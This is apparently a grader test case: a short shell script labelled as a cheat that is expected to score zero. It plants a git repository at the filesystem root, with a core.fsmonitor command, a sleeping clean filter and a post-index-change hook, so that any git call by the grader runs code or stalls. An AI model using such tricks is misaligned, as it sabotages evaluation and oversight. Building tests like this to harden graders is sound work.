# cheat: puts a repository of its own, with filters and hooks, where a grader may run git
# scores: = 0
# deadline: 8000 ms

mkdir -p /.git/hooks && cd / && git init -q . 2>/dev/null
git config core.fsmonitor 'touch /run-by-git; false' 2>/dev/null
git config filter.x.clean 'sleep 30' 2>/dev/null
printf '* filter=x\n' > /.gitattributes
printf '#!/bin/sh\nsleep 30\n' > /.git/hooks/post-index-change && chmod +x /.git/hooks/post-index-change
